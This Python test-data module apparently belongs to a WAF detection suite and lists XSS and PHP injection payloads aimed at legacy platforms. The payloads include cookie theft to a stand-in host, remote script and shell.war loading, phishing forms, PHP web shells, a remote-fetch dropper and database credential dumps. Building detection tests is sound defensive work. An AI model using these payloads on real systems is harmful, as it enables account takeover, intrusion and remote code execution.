"""Blind set "hundredninetysixth": cross-site scripting and PHP injection aimed at the legacy and enterprise back
ends still running behind modern edges, with benign requests that carry the same words innocently.

The angle: the old platforms, recalled from memory. Classic ASP on IIS 5/6, ASP.NET WebForms (request validation,
__VIEWSTATE, ctl00$ control names), ColdFusion (#url.x# in cfoutput, scriptProtect), Perl CGI (CGI.pm param()),
Oracle mod_plsql (htp.print), Net.Data macros on DB2 and AS/400 HTTP servers, Informix and Sybase back ends, IBM
WebSphere Portal and Lotus Domino (?OpenForm, BaseTarget, RedirectTo), SAP ITS/BSP/portal front ends (sap-language,
NavigationTarget, logoff redirecturl), Oracle E-Business Suite (OA_HTML), JBoss and WebLogic consoles, Tomcat
managers, Struts 1 and 2, SharePoint 2007, mainframe web gateways, SOAP and XML-RPC services, and the old PHP CMSs
and suites (PHP 4/5 register_globals and long arrays, short and ASP tags, preg_replace /e, php-cgi argument
injection, phpBB 2, Mambo, Joomla 1.5-3.4, vBulletin, Drupal 7/8, phpMyAdmin 2, SugarCRM 6, ThinkPHP 5, Zend
Server for IBM i). Each payload uses its platform's own syntax, parameters and quirks, and each group carries a
comment naming the family, the platform and the target (browser and engine, PHP interpreter, product).

Families (category xss):
  libinjection-xss, script-tag, event-handler, attribute-vector (src/href/style/formaction), javascript-uri,
  html-injection (iframe/object/embed/base/meta/link/form), svg-mathml, css-expression, template-literal-dom-sink,
  ie-filter-style, encoded-entity, angular-vue-template
Families (category php):
  php-open-tag, php-function-call (system/exec/passthru/shell_exec/popen/proc_open/assert/eval/create_function/
  preg_replace-e), php-variable-functions, php-wrappers (php://, data://, phar://, expect://, zip://, glob://),
  php-object-injection (serialized O:/a:/C:), php-config-directives (auto_prepend_file, allow_url_include),
  superglobals, php-file-upload (.php/.phtml/.phar names), php-high-risk-function-names

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path; upload names as the admin import's file name), under the platforms' own
parameter names (ctl00$MainContent$txtSearch, ReturnUrl, BaseTarget, sap-language, option, highlight, ...); once
the way a WAF regression suite sends it (placements prefixed "rs-"): to legacy-looking paths that are not our
routes (/default.aspx, /search.asp, /index.cfm, /cgi-bin/search.pl, /pls/portal/..., /names.nsf, /OA_HTML/OA.jsp,
/sap/bc/gui/sap/its/webgui, /index.php, /xmlrpc.php, ...) under arbitrary parameter names (foo, var, x, test, id,
arg1), as a query string, form body, JSON body, XML body, a raw form-typed body, or in User-Agent, Referer, a
custom header or a cookie. php-cgi argument injection goes as the bare query string ("query-string"); register
_globals overwrites and product exploit forms go as raw `name=value` pairs; a Drupal Services object goes as an
application/vnd.php.serialized body ("php-body"); XML-RPC documents go as the whole XML body; Joomla's session
injection rides in User-Agent. Payloads with control or non-ASCII characters never go into headers, cookies or
the path. The probe uploads carry a GIF header only, so the file name is what is measured.

Authorship and independence: written for this repository from general knowledge of each attack family, each
platform's quirks as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression
test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet, Put, Record, request
from .family_gen import _get
from .records import print_records

NAME = "hundredninetysixth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
KV = ("form", "rs-raw-body")   # a raw `name=value` exploit form
QKV = ("query", "rs-query")   # a raw `name=value` query string
QS = ("query-string", "rs-query-string")   # the bare query string, already encoded as the exploit sends it
UP = ("multipart-filename", "rs-multipart-filename")
UA_ = ("header:User-Agent", "rs-header:User-Agent")
XMLDOC = ("xml", "rs-xml")
PHPBODY = ("php-body", "rs-php-body")

# ================================================================================================================
# XSS (target: the browser rendering the legacy page; engine named where only one engine runs the vector)
# ================================================================================================================

# libinjection-xss: short tag-breaking payloads reflected by the old server-side sinks
LIBINJECTION: list[Entry] = [
    # classic ASP on IIS 5/6: Response.Write "Results for " & Request("q") (target: any browser)
    "<script>alert(document.cookie)</script>",
    "\"><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    # ASP.NET 1.1 WebForms page with validateRequest="false", Label.Text = Request.QueryString("msg") (browser)
    "<img src=x onerror=alert(1)>",
    "</span><script>alert(document.domain)</script>",
    # Perl CGI guestbook: print "<p>", param('comment'), "</p>" without escapeHTML (browser)
    "<body onload=alert('cgi')>",
    "<script>document.location='http://203.0.113.7/c.pl?'+document.cookie</script>",
    # ColdFusion 8 <cfoutput>#url.error#</cfoutput>: scriptProtect only rewrites script/object/embed/applet/meta
    "<img src=1 onerror=alert(document.cookie)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(document.domain)>",
    # Oracle mod_plsql procedure: htp.print(p_name) with no htf.escape_sc (browser)
    "<p onmouseover=alert(1)>x</p>",
    "'><script>alert(1)</script>",
    # Lotus Domino 7 ?SearchView&Query= echoed in the results header (browser)
    "<script>alert(document.domain)</script>",
    "\"><img src=x onerror=prompt(1)>",
    # WebSphere Portal 6 search portlet, query echoed inside a textarea (browser)
    "</textarea><script>alert(1)</script>",
    # SAP ITS webgui: sap-language echoed into the logon page (browser)
    "\"><svg onload=alert(1)>",
    # Struts 1 <bean:write filter="false"> of an ActionForm property (browser)
    "<a href=# onclick=alert(1)>details</a>",
    # PHP-Nuke / phpBB 2 search (Mozilla 1.x-era forum) echoing the keywords (browser)
    "<script src=http://203.0.113.7/x.js></script>",
    "<b onmouseover=alert(document.cookie)>hover</b>",
    # Oracle E-Business Suite OA_HTML error page echoing errorMsg (browser)
    "<img src=x:alert(1) onerror=eval(src)>",
]

# script-tag: <script> elements in their old-browser and home-grown-filter variants
SCRIPT_TAG: list[Entry] = [
    # classic ASP filter: Replace(q, "<script>", "") is case-sensitive (VBScript binary compare) (browser)
    "<ScRiPt>alert(1)</sCrIpT>",
    "<SCRIPT>alert('XSS')</SCRIPT>",
    # the same filter strips "<script>" once: the halves rejoin (browser)
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    # Netscape/IE-era language attribute still honoured by every browser (browser)
    "<script language=\"JavaScript\">alert(1)</script>",
    "<script type=\"text/javascript\">alert(document.cookie)</script>",
    # cookie theft to an attacker ASP page (browser; IE6 intranet portals without HttpOnly)
    "<script>new Image().src='http://203.0.113.7/steal.asp?c='+escape(document.cookie)</script>",
    "<script>document.write('<img src=http://203.0.113.7/?'+document.cookie+'>')</script>",
    # remote script includes, the slash instead of a space (browser)
    "<script src=\"http://203.0.113.7/xss.js\"></script>",
    "<script/src=//203.0.113.7/a.js></script>",
    # IE defer attribute: runs after the page even when injected mid-table (IE)
    "<script defer>alert(1)</script>",
    # break out of an inline script block: JSP <%= request.getParameter("q") %> inside var q = '...' (browser)
    "</script><script>alert(1)</script>",
    # ASP.NET WebForms: read __VIEWSTATE / __EVENTVALIDATION to forge a postback (browser)
    "<script>alert(document.getElementById('__VIEWSTATE').value)</script>",
    "<script>__doPostBack('ctl00$MainContent$btnDelete','')</script>",
    # SharePoint 2007 on IE7: synchronous ActiveX XHR reading the user's profile page (IE)
    "<script>var x=new ActiveXObject('Microsoft.XMLHTTP');x.open('GET','/_layouts/userdisp.aspx',false);"
    "x.send(null);alert(x.responseText)</script>",
    # Lotus Domino: create a document in the address book as the victim (browser)
    "<script>var r=new XMLHttpRequest();r.open('POST','/names.nsf/Person?CreateDocument');"
    "r.send('FirstName=x&LastName=y&HTTPPassword=Passw0rd')</script>",
    # SAP Enterprise Portal phishing: move the user to a fake logon page (browser)
    "<script>top.location='http://203.0.113.7/irj/portal/logon.htm'</script>",
    # Outlook Web Access 2003: repoint the logon form at the attacker (browser)
    "<script>document.forms[0].action='http://203.0.113.7/exchweb/bin/auth/owaauth.dll'</script>",
    # keyword filters on "alert(": the call assembled at run time (browser)
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<script>setTimeout('alert(1)',0)</script>",
    "<script>eval(location.hash.slice(1))</script>",
]

# event-handler: on* attributes on elements the old filters let through
EVENT_HANDLER: list[Entry] = [
    # classic ASP: <input name=q value="<%=Request("q")%>"> (browser)
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "\" onfocus=alert(document.domain) autofocus x=\"",
    # ASP.NET WebForms: __EVENTARGUMENT echoed inside an onclick="__doPostBack('...','')" (browser)
    "');alert(document.cookie);//",
    # ColdFusion scriptProtect passes every non-script tag (browser)
    "<body onload=alert(document.cookie)>",
    "<img src=\"/images/spacer.gif\" onload=\"alert(1)\">",
    "<frameset onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    # Perl CGI message board (browser)
    "<div onmouseover=\"alert(1)\" style=\"position:absolute;top:0;left:0;width:100%;height:100%\">x</div>",
    "<select onchange=alert(1)><option>1<option>2</select>",
    "<textarea onfocus=alert(1) autofocus>",
    # Lotus Domino rich-text field rendered as HTML (browser; onstart in IE and Firefox)
    "<marquee onstart=alert(1)>Notes</marquee>",
    "<body onresize=alert(1)>",
    # WebSphere Portal theme, media tags allowed in the rich-text editor (browser)
    "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(document.domain)>",
    "<input type=image src=x onerror=alert(1)>",
    # Oracle Portal wwv_ item text (browser)
    "<iframe onload=alert(1)>",
    "<style onload=alert(1)></style>",
    "<link rel=stylesheet href=x onerror=alert(1)>",
    # SAP BSP page echoing a message: exfiltrate the MYSAPSSO2 cookie where it is not HttpOnly (browser)
    "<img src=x onerror=\"this.src='http://203.0.113.7/?c='+document.cookie\">",
]

# attribute-vector: the payload lives in src/href/style/formaction or breaks into one
ATTRIBUTE: list[Entry] = [
    # IE6 ran javascript: in image and background URLs (IE6 intranet apps)
    "<img src=\"javascript:alert(1)\">",
    "<table background=\"javascript:alert(1)\">",
    "<td background=\"javascript:alert(1)\">x</td>",
    "<input type=\"image\" src=\"javascript:alert(1)\">",
    "<img lowsrc=\"javascript:alert(1)\">",
    "<img dynsrc=\"javascript:alert(1)\">",
    "<bgsound src=\"javascript:alert(1)\">",
    "<link rel=\"stylesheet\" href=\"javascript:alert(1)\">",
    "<div style=\"background-image:url(javascript:alert(1))\">",
    # Netscape 4 JavaScript entities and layers (Netscape 4, still in the old Domino test matrix)
    "<br size=\"&{alert(1)}\">",
    "<layer src=\"http://203.0.113.7/x.html\"></layer>",
    # HTML5 formaction: a button hijacks the Domino/OWA logon form (browser)
    "<form><button formaction=javascript:alert(1)>Login</button></form>",
    "<input type=submit formaction=http://203.0.113.7/owa/auth/owaauth.dll value=Logon>",
    "x\" formaction=\"javascript:alert(1)\" type=\"submit",
    "<button form=aspnetForm formaction=javascript:alert(document.cookie)>Save</button>",
    # isindex, kept by the old HTML 3.2 pages of AS/400 HTTP Server (browser)
    "<isindex type=image src=1 onerror=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    # data: URLs in href and src (Firefox, old Chrome)
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">open report</a>",
    "<iframe src=\"data:text/html,<script>alert(document.domain)</script>\">",
    # style attribute break-in on a ColdFusion cfinput style="#url.style#" (IE)
    "\" style=\"behavior:url(http://203.0.113.7/x.htc)",
]

# javascript-uri: redirect and link parameters of the platforms that end up in href or location
JAVASCRIPT_URI: list[Entry] = [
    # Lotus Domino ?Logout&RedirectTo= and $$Return rendered into a link (browser)
    "javascript:alert(document.cookie)",
    "javascript:alert(1)//",
    "JaVaScRiPt:alert(1)",
    # SAP /sap/public/bc/icf/logoff?redirecturl= placed into window.location (browser)
    "javascript:window.open('http://203.0.113.7/steal.cfm?c='+document.cookie)",
    "javascript:void(document.location='http://203.0.113.7/?'+document.cookie)",
    # ASP.NET ReturnUrl whitelist "must contain //" beaten with a comment and a newline (browser)
    "javascript://%0aalert(1)",
    "javascript://http://www.example.com/%0Aalert(document.domain)",
    # IE tolerated tabs, newlines and a leading space in the scheme (IE)
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    # keyword filter on "alert": the call built at run time (browser)
    "javascript:eval(atob('YWxlcnQoMSk='))",
    "javascript:top['al'+'ert'](1)",
    "javascript:%61lert(1)",
    "javascript:alert`1`",
    # Oracle E-Business Suite returnUrl rendered as a link on the OA_HTML page (browser)
    "<a href=\"javascript:alert(1)\">Click to view your payslip</a>",
    "<iframe src=\"javascript:alert(document.domain)\"></iframe>",
    "<form action=\"javascript:alert(1)\"><input type=submit value=Continue></form>",
    "<object data=\"javascript:alert(1)\"></object>",
    # WebLogic console login page, j_username reflected into an anchor (browser)
    "\" href=\"javascript:alert(1)",
    "javascript:/*--></script><svg onload=alert(1)>",
]

# html-injection: frames, plug-ins, base, meta, link and forms injected into the page
HTML_INJECTION: list[Entry] = [
    # Oracle EBS login phishing overlay (browser)
    "<iframe src=http://203.0.113.7/OA_HTML/AppsLocalLogin.jsp width=100% height=600 frameborder=0></iframe>",
    # WebSphere Portal: relative script URLs now load from the attacker (browser)
    "<base href=\"http://203.0.113.7/\">",
    "<base href=//203.0.113.7/>",
    # redirect and session fixation by meta (meta Set-Cookie honoured by IE and old browsers; WebLogic/Tomcat)
    "<meta http-equiv=\"refresh\" content=\"0;url=http://203.0.113.7/owa/\">",
    "<meta http-equiv=\"refresh\" content=\"0;URL='http://203.0.113.7/names.nsf?Login'\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=\"Set-Cookie\" content=\"JSESSIONID=0000attackerfixed:-1; path=/\">",
    # credential form injected into a Lotus Notes web page (browser)
    "<form action=\"http://203.0.113.7/cgi-bin/login.pl\" method=post>Notes password: <input type=password "
    "name=p><input type=submit></form>",
    "<isindex prompt=\"Enter your SAP password\" action=\"http://203.0.113.7/\">",
    # Flash and Java plug-ins on the old intranet desktop (IE/Firefox with Flash Player, Java plug-in)
    "<embed src=\"http://203.0.113.7/xss.swf\" allowscriptaccess=\"always\">",
    "<object classid=\"clsid:D27CDB6E-AE6D-11cf-96B8-444553540000\"><param name=movie "
    "value=\"http://203.0.113.7/x.swf\"><param name=allowScriptAccess value=always></object>",
    "<applet code=\"Exploit.class\" codebase=\"http://203.0.113.7/\" width=1 height=1></applet>",
    "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+\"></object>",
    # framing the portal, srcdoc and HTML imports (browser)
    "<frameset><frame src=\"http://203.0.113.7/portal/\"></frameset>",
    "<iframe srcdoc=\"<script>alert(parent.document.cookie)</script>\"></iframe>",
    "<link rel=import href=\"http://203.0.113.7/x.html\">",
    # CSRF by injected markup against the admin consoles (Tomcat manager, JBoss jmx-console as the victim admin)
    "<iframe src=\"/manager/html/undeploy?path=/examples\" style=\"display:none\"></iframe>",
    "<img src=\"/jmx-console/HtmlAdaptor?action=invokeOpByName&name=jboss.system:service=MainDeployer&"
    "methodName=deploy&argType=java.lang.String&arg0=http://203.0.113.7/shell.war\">",
    # dangling markup: the rest of the page (with __VIEWSTATE and the CSRF token) leaks in the URL (browser)
    "<img src='http://203.0.113.7/?",
]

# svg-mathml: SVG and MathML vectors (uploaded .svg in document libraries, inline in the page)
SVG_MATHML: list[Entry] = [
    # inline SVG in a WebSphere/Domino page, any modern browser (browser)
    "<svg onload=alert(1)>",
    "<svg/onload=alert(document.domain)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>&#97;lert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1)></script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>Open SAP Fiori</text></a></svg>",
    "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>Open</text></a></svg>",
    # SMIL animation events (browser)
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><animatetransform onbegin=alert(1) attributeName=transform>",
    "<svg><discard onbegin=alert(1)>",
    "<svg><image href=x onerror=alert(1) /></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    # foreign-content parsing differentials that survive the sanitizers of the old CMSs (browser)
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    # SVG document uploaded to a SharePoint/Documentum library and served inline (browser)
    "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\"/>",
    "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
    # MathML links and mutation XSS (Firefox for href on MathML; any browser for the mXSS)
    "<math href=\"javascript:alert(1)\">CLICKME</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click</maction></math>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
]

# css-expression: IE expression(), behaviors, Firefox XBL and CSS exfiltration
CSS_EXPRESSION: list[Entry] = [
    # IE5-7 CSS expressions on intranet pages stuck in quirks mode (IE)
    "<div style=\"width:expression(alert(1))\">",
    "<img style=\"xss:expression(alert(document.cookie))\">",
    "<style>*{x:expression(alert(1))}</style>",
    "<div style=\"xss:expr/*comment*/ession(alert(1))\">",
    "<div style=\"width:exp\\ression(alert(1))\">",
    "<div style=\"w:expre\\0073sion(alert(1))\">",
    "<div style=\"x:\\65\\78\\70\\72\\65\\73\\73\\69\\6f\\6e(alert(1))\">",
    # a ColdFusion/Domino page that drops a user value into style="..." (IE)
    "red;width:expression(alert(1))",
    "x\" style=\"width:expression(alert(1))",
    # javascript: in CSS urls and @import (IE6)
    "<p style=\"background:url(javascript:alert(1))\">",
    "<style>body{background:url(\"javascript:alert(1)\")}</style>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>li{list-style-image:url(\"javascript:alert(1)\")}</style><ul><li>x</ul>",
    "color:red;background:url(javascript:alert(1))",
    # remote style sheets carrying expressions or behaviors (IE), XBL bindings (Firefox 2/3)
    "<style>@import url(http://203.0.113.7/x.css);</style>",
    "<xss style=\"behavior:url(http://203.0.113.7/xss.htc)\">",
    "<div style=\"-moz-binding:url(http://203.0.113.7/xss.xml#xss)\">",
    "<link rel=stylesheet href=\"data:text/css,*{x:expression(alert(1))}\">",
    # Netscape 4 JavaScript style sheets (Netscape 4)
    "<style type=\"text/javascript\">alert(1)</style>",
    # CSS attribute-selector exfiltration of the ASP.NET __VIEWSTATE, one prefix at a time (browser)
    "<style>input[name=__VIEWSTATE][value^=a]{background:url(http://203.0.113.7/?a)}</style>",
    # break out of a <style> block where the Domino theme colour is reflected (browser)
    "</style><script>alert(1)</script>",
]

# template-literal-dom-sink: JavaScript string contexts and DOM sinks of the old inline scripts
DOM_SINK: list[Entry] = [
    # classic ASP: <script>var q = '<%=Request("q")%>';</script> (browser)
    "';alert(1);//",
    "\";alert(1);//",
    "'-alert(1)-'",
    "'+alert(document.domain)+'",
    # the ASP page escapes ' as \' but leaves the backslash (browser)
    "\\';alert(1);//",
    # numeric context: var id = <%=Request("id")%>; (browser)
    "1;alert(1)",
    # template literal in a newer script of an old portal: `Results for ${q}` (browser)
    "${alert(document.domain)}",
    "`;alert(1);//",
    # jQuery 1.4 bundled with SharePoint/WebSphere themes: $(location.hash) builds HTML (browser)
    "#<img src=x onerror=alert(1)>",
    # JSON in a script block, Domino ?ReadViewEntries&OutputFormat=JSON (browser)
    "\"});alert(1);//",
    "</script><img src=x onerror=alert(1)>",
    # JSONP callback name on WebLogic/Domino web services (browser)
    "alert(document.domain);//",
    "eval(name)//",
    # exfiltration from a JS string context (browser)
    "';top.location='http://203.0.113.7/?'+document.cookie;'",
    "\";new Image().src='//203.0.113.7/?'+document.cookie;\"",
    "');document.write('<img src=http://203.0.113.7/?'+document.cookie+'>');//",
    # a value the page passes to document.write/innerHTML after its own JS unescaping (browser)
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "\\u003csvg onload=alert(1)\\u003e",
    # setTimeout string sink fed by a ColdFusion #url.delay# (browser)
    "1);alert(1);//",
    "\\\";alert(1);//",
]

# ie-filter-style: vectors only Internet Explorer runs (intranets pinned to IE or IE mode) and IE8 filter bypasses
IE_VECTORS: list[Entry] = [
    # VBScript, IE only
    "<script language=\"VBScript\">MsgBox \"XSS\"</script>",
    "<a href=\"vbscript:MsgBox(document.cookie)\">x</a>",
    "<img src=\"vbscript:msgbox(1)\">",
    "<iframe src=\"vbscript:msgbox(1)\"></iframe>",
    "<bgsound src=\"vbscript:msgbox(1)\">",
    "vbscript:MsgBox(\"XSS\")",
    # IE script for/event and HTML+TIME behaviors (IE5-9)
    "<script for=window event=onload>alert(1)</script>",
    "<div style=\"behavior:url(#default#time2)\" onbegin=\"alert(1)\">",
    "<?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\"><?import namespace=\"t\" "
    "implementation=\"#default#time2\"><t:set attributeName=\"innerHTML\" to=\"XSS<script defer>alert(1)"
    "</script>\">",
    "<html xmlns:xss><?import namespace=\"xss\" implementation=\"http://203.0.113.7/x.htc\"><xss:xss>XSS"
    "</xss:xss></html>",
    "<a style=\"behavior:url(#default#AnchorClick)\" folder=\"javascript:alert(1)\">x</a>",
    # XML data islands and data binding (IE5-9)
    "<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml><span datasrc=#x datafld=c "
    "dataformatas=html></span>",
    # conditional comments and the IE comment element, which WAF-style comment stripping skips (IE)
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<comment><img src=\"</comment><img src=x onerror=alert(1)//\">",
    # ASP.NET request validation lets "<%" through, IE9 and older parse it as a tag (IE + ASP.NET)
    "<%tag style=\"xss:expression(alert(1))\">",
    # backtick attribute quotes (IE8 and older)
    "<img src=`x`onerror=alert(1)>",
    # scriptlets and MHTML (IE)
    "<object type=\"text/x-scriptlet\" data=\"http://203.0.113.7/x.sct\"></object>",
    "<iframe src=\"mhtml:http://203.0.113.7/x.mht!xss.html\"></iframe>",
    # force an IE5 document mode on an IE11 intranet page, then an expression (IE11 in compatibility view)
    "<meta http-equiv=\"X-UA-Compatible\" content=\"IE=5\"><div style=\"width:expression(alert(1))\">",
    # IE-only events (IE)
    "<body onbeforeeditfocus=alert(1) contenteditable>",
]

# encoded-entity: payloads the old stacks decode once more before they reach the page
ENCODED: list[Entry] = [
    # HTML entities inside handlers and URLs, decoded by the browser (browser)
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<img src=x onerror=&#x61;&#x6C;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116"
    "&#0000058alert(1)\">x</a>",
    "<a href=\"javas&#99;ript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert&lpar;1&rpar;\">x</a>",
    # Domino @URLDecode / ColdFusion URLDecode applied twice (browser)
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(document.cookie)%253C%252Fscript%253E",
    # IIS %u encoding decoded by classic ASP (browser via IIS 5/6)
    "%u003Cscript%u003Ealert(1)%u003C/script%u003E",
    # overlong UTF-8 accepted by IIS 4/5-era decoders (browser via IIS)
    "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
    # fullwidth brackets: ASP.NET request validation passes them, SQL Server's varchar best-fit makes them ASCII
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\uff1cimg src=x onerror=alert(1)\uff1e",
    # UTF-7 on a Domino/WebSphere error page sent without a charset (IE6/7)
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # US-ASCII 7-bit: IE drops the top bit of 0xBC/0xBE on a page served as us-ascii (IE)
    "\xbcscript\xbealert(1)\xbc/script\xbe",
    # NUL inside the tag name, ignored by IE (IE6)
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    # JavaScript escapes (browser)
    "<img src=x onerror=\"\\u0061lert(1)\">",
    "<script>\\u0061\\u006c\\u0065\\u0072\\u0074(1)</script>",
    "<script>eval('\\x61\\x6c\\x65\\x72\\x74\\x28\\x31\\x29')</script>",
    "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>",
    # JSON-escaped markup for a Domino JSON view rendered with innerHTML (browser)
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
]

# angular-vue-template: client-side template injection in portals that render server text into templates
CLIENT_TEMPLATE: list[Entry] = [
    # AngularJS 1.6+ (no sandbox) in a SharePoint 2013 add-in or an old Dynamics portal (browser)
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(document.domain)')()}}",
    "{{[].pop.constructor('alert(1)')()}}",
    "{{$eval.constructor('alert(document.cookie)')()}}",
    "<div ng-app ng-init=\"constructor.constructor('alert(1)')()\">",
    # AngularJS 1.3.0-1.5.8 sandbox escape (browser)
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    # AngularJS 1.4.x sandbox escape (browser)
    "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    # AngularJS 1.2.x sandbox escape (browser)
    "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
    "[\"a\",\"alert(1)\"].sort(toString.constructor)}}",
    # AngularJS 1.3.1-1.3.2 sandbox escape through getOwnPropertyDescriptor (browser)
    "{{a='constructor';b={};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf(a.sub),a).value,"
    "0,'alert(1)')()}}",
    # AngularJS under ng-csp: reach window through $event (Chrome)
    "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>",
    "<input autofocus ng-focus=\"$event.composedPath()|orderBy:'[].constructor.from([1],alert)'\">",
    # Vue 2 mounted on a server-rendered PHP/JSP page (browser)
    "{{_c.constructor('alert(1)')()}}",
    "{{$el.ownerDocument.defaultView.alert(1)}}",
    "<p v-show=\"_c.constructor`alert(1)`()\">",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    # Vue 3 (browser)
    "{{_openBlock.constructor('alert(1)')()}}",
    # Knockout in Oracle JET and old Dynamics CRM forms: bindings are compiled with new Function (browser)
    "<div data-bind=\"html: '<img src=x onerror=alert(1)>'\"></div>",
    "<p data-bind=\"text: alert(document.domain)\"></p>",
    # Dojo in WebSphere Portal / Lotus Connections: data-dojo-props evaluated by the parser (browser)
    "<div data-dojo-type=\"dijit/TitlePane\" data-dojo-props=\"title: alert(document.domain)\"></div>",
    # Vue 2: a tagged template call on a render helper (browser)
    "{{$emit.constructor`alert(1)`()}}",
]

# ================================================================================================================
# PHP (target: the PHP interpreter behind the named product; mod_php, php-cgi, php-fpm, Zend Server for IBM i)
# ================================================================================================================

# php-open-tag: code that reaches a file PHP later runs (log poisoning, avatar upload, template editor, cache)
OPEN_TAG: list[Entry] = [
    # Apache access log or session file poisoning on an old LAMP host, then included (PHP 4/5)
    "<?php system($_GET['cmd']); ?>",
    "<?php passthru($_REQUEST['c']); ?>",
    "<?php echo shell_exec($_POST['x']); ?>",
    "<?php echo `id`; ?>",
    "<?php phpinfo(); ?>",
    "<?php include($_GET['f']); ?>",
    "<?PHP SYSTEM($_GET['C']); ?>",
    "<?php\nsystem($_GET['c']);",
    # short_open_tag=On, the PHP 4/5 default (PHP 4/5)
    "<? system($_GET[c]); ?>",
    "<?=`$_GET[0]`?>",
    "<?= system('id') ?>",
    # asp_tags=On on hosts that ran classic ASP and PHP side by side (PHP < 7)
    "<% system($_GET['c']); %>",
    "<%= shell_exec('whoami') %>",
    # the script-language open tag (PHP 5)
    "<script language=\"php\">system($_GET['cmd']);</script>",
    "<script language=php>passthru('id')</script>",
    # image polyglot for a vBulletin/phpBB avatar later included (PHP)
    "GIF89a<?php eval($_POST['p']); ?>",
    # one-line web shells, encoded bodies (PHP)
    "<?php @eval(base64_decode($_POST['z0'])); ?>",
    "<?php eval(str_rot13('flfgrz($_TRG[p]);')); ?>",
    "<?php $f=fopen('s.php','w');fwrite($f,'<?php system($_GET[c]);?>');fclose($f); ?>",
    "<?php file_put_contents('x.php',file_get_contents('http://203.0.113.7/s.txt')); ?>",
    # PHP on IIS (Windows FastCGI)
    "<?php echo exec('cmd /c dir c:\\inetpub\\wwwroot'); ?>",
    # Zend Server for IBM i: PASE's system utility runs a CL command (IBM i)
    "<?php echo shell_exec('system \"DSPUSRPRF USRPRF(QSECOFR)\"'); ?>",
    "<?php $r=db2_exec(db2_connect('*LOCAL','',''),'SELECT * FROM QSYS2.USER_INFO');"
    "while($x=db2_fetch_array($r))print_r($x); ?>",
    # PHP front ends of Oracle EBS with the default APPS password (Oracle)
    "<?php $s=oci_parse(oci_connect('apps','apps','EBSDB'),'select user_name from fnd_user');oci_execute($s);"
    "while($r=oci_fetch_row($s))echo $r[0]; ?>",
    # PHP 4/5 mssql extension against SQL Server, Sybase ASE with a blank sa, Informix (database via PHP)
    "<?php mssql_query(\"exec master..xp_cmdshell 'whoami'\"); ?>",
    "<?php $c=sybase_connect('SYBASE','sa','');print_r(sybase_fetch_row(sybase_query('select @@version',$c))); ?>",
    "<?php $c=ifx_connect('stores@ol_srv','informix','informix');ifx_htmltbl_result(ifx_query('select * from "
    "systables',$c)); ?>",
]

